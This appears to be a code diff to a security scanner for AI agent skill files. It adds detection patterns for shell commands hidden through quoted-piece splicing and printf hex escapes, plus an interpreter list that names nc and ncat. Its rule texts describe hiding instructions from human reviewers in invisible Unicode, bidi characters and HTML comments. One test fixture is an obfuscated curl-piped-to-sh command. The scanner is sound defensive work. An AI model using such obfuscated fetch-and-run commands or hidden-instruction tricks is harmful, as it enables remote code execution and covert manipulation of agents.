@@ -642,6 +642,11 @@ const JOIN_LIST = /["']{2}\.join\(\s*\[\s*(?:["'][^"'\n]{1,8}["']\s*,\s*){2,40}[
 const ANSI_C_HEX = /\$'(?:\\x[0-9a-fA-F]{2}){3,}'/g;
 const VAR_COMMAND = /^[ \t]*(?:\$\{?[A-Za-z_]\w{0,20}\}?){2,}(?=\s|$)/gm;
 const IFS_SPLICE = /\$\{?IFS\}?/g;
+// Adjacent quoted pieces make one shell word: "cu""rl", 'ba''sh'.
+const SHELL_SPLICE = /(?:"[^"\s\\$`]{1,16}"|'[^'\s]{1,16}'){2,8}/g;
+// printf '\x73\x68' prints "sh": a command name spelt in hex escapes.
+const PRINTF_HEX = /\bprintf\s+(?:%b\s+)?["']((?:\\x[0-9a-fA-F]{2}){2,40})["']/g;
+const INTERPRETER_WORD = /^(?:(?:ba|z|da|k)?sh|python[23]?|perl|ruby|node|php|pwsh|powershell|nc|ncat)$/;
 const REVERSED_EXEC = /\[::-1\][^\n]{0,80}\b(?:exec|eval|system|popen|run|call)\b|\b(?:exec|eval|system|popen)\s*\([^\n]{0,80}\[::-1\]|\|\s*rev\s*\|\s*(?:ba)?sh\b|\.split\(\s*["']{2}\s*\)\s*\.reverse\(\)\s*\.join\(\s*["']{2}\s*\)[^\n]{0,80}\b(?:eval|Function|exec)\b/g;
 const RARE_DECODER = /\b(?:b85decode|a85decode|str_rot13)\s*\(|codecs\.decode\s*\([^)\n]{0,80}rot_?13|\btr\s+["']?(?:A-Za-z|a-zA-Z)["']?\s+["']?(?:N-ZA-Mn-za-m|n-za-mN-ZA-M)/g;
 const DYNAMIC_IMPORT = /\b__import__\s*\(\s*["'][^"'\n]{0,20}["']\s*\+|\bgetattr\s*\(\s*[\w.]+\s*,\s*["'][^"'\n]{0,20}["']\s*\+|\brequire\s*\(\s*["'][^"'\n]{0,20}["']\s*\+\s*["']/g;
@@ -649,6 +654,7 @@ const DYNAMIC_IMPORT = /\b__import__\s*\(\s*["'][^"'\n]{0,20}["']\s*\+|\bgetattr
 anchored(JOIN_LIST, ['.join(']);
 anchored(ANSI_C_HEX, ["$'\\x"]);
 anchored(IFS_SPLICE, ['ifs']);
+anchored(PRINTF_HEX, ['printf']);
 anchored(REVERSED_EXEC, ['[::-1]', 'rev', 'reverse()']);
 anchored(RARE_DECODER, ['b85decode', 'a85decode', 'rot', 'a-za-z']);
 anchored(DYNAMIC_IMPORT, ['__import__', 'getattr', 'require']);
@@ -675,6 +681,17 @@ function splitCommandMatches(file: FileView): RuleMatch[] {
   }
   if (file.kind === 'script' && file.language === 'sh') {
     for (const m of findAll(text, VAR_COMMAND)) out.push({ ...m, message: 'Command name assembled from variables' });
+    for (const m of findAll(text, SHELL_SPLICE)) {
+      const parts = [...text.slice(m.index, m.index + m.length).matchAll(/"([^"]*)"|'([^']*)'/g)].map((p) => p[1] ?? p[2]);
+      const joined = parts.join('');
+      if ((DANGEROUS_WORD.test(joined) || INTERPRETER_WORD.test(joined)) && !parts.some((p) => DANGEROUS_WORD.test(p))) {
+        out.push({ ...m, evidence: joined, message: `Quoted pieces assemble "${clip(joined, 60)}"` });
+      }
+    }
+    for (const m of mayMatch(file, PRINTF_HEX) ? findAll(text, PRINTF_HEX) : []) {
+      const decoded = (text.slice(m.index, m.index + m.length).match(/\\x([0-9a-fA-F]{2})/g) ?? []).map((h) => String.fromCharCode(parseInt(h.slice(2), 16))).join('');
+      if (DANGEROUS_WORD.test(decoded) || INTERPRETER_WORD.test(decoded)) out.push({ ...m, evidence: decoded, message: `printf spells "${clip(decoded, 60)}" in hex escapes` });
+    }
     const ifs = mayMatch(file, IFS_SPLICE) ? findAll(text, IFS_SPLICE, undefined, 3) : [];
     if (ifs.length) out.push({ ...ifs[0], message: '${IFS} used to split a command and evade filters' });
   }
@@ -699,6 +716,7 @@ export const rules: Rule[] = [
     title: 'Hidden text in invisible Unicode tag characters',
     why: 'Unicode tag characters (and chained variation selectors) are invisible to people but read by models, so they can carry instructions no reviewer sees.',
     fix: 'Delete the invisible characters; everything a skill tells the agent must be visible text.',
+    hiddenContent: true,
     scopes: ALL_TEXT,
     negatable: false,
     examples: {
@@ -741,6 +759,7 @@ export const rules: Rule[] = [
     title: 'Bidirectional control characters reorder text',
     why: 'Right-to-left overrides and isolates make text display in a different order than it is read ("Trojan Source"), hiding what code or instructions really say.',
     fix: 'Remove bidi control characters; use plain text and let the renderer handle right-to-left scripts.',
+    hiddenContent: true,
     scopes: ALL_TEXT,
     negatable: false,
     examples: {
@@ -777,6 +796,7 @@ export const rules: Rule[] = [
     title: 'Instructions hidden in HTML comments',
     why: 'HTML comments do not render, so instructions or encoded payloads placed in them reach the model while staying invisible to people reviewing the skill.',
     fix: 'Move any real instruction into visible text, and delete hidden comments that address the agent.',
+    hiddenContent: true,
     scopes: PROSE,
     anchors: ['<!--'],
     negatable: false,
@@ -797,6 +817,7 @@ export const rules: Rule[] = [
     title: 'Text hidden by markup, link titles or data URIs',
     why: 'CSS-hidden elements, markdown comments, link titles, alt text and data: URIs carry text readers never see but models do.',
     fix: 'Keep every instruction in visible text; remove hidden elements and text-bearing data URIs.',
+    hiddenContent: true,
     scopes: PROSE,
     negatable: false,
     examples: {
@@ -904,10 +925,12 @@ export const rules: Rule[] = [
     negatable: false,
     examples: {
       match: [
+        { path: 'lib/common.sh', text: '_F="cu""rl"\n_R="$(printf \'\\x73\\x68\')"\n( "$_F" -fsSL "$URL" | "$_R" ) &\n' },
         { path: 'scripts/x.py', text: 'cmd = "cu" + "rl" + " -s " + "ht" + "tp://x"\n' },
         { path: 'scripts/y.py', text: 'mod = __import__("o" + "s")\n' },
       ],
       noMatch: [
+        { path: 'scripts/msg.sh', text: 'echo "Hello, ""$USER""!"\nprintf \'\\x1b[32mok\\x1b[0m\\n\'\nlabel="build"\'-\'"log"\n' },
         { path: 'scripts/msg.py', text: 'msg = "Hello, " + "world" + "!"\npath = "out" + ".txt"\n' },
         { path: 'scripts/url.js', text: "const url = 'https://api.example.com/' + 'v1/items';\n" },
       ],
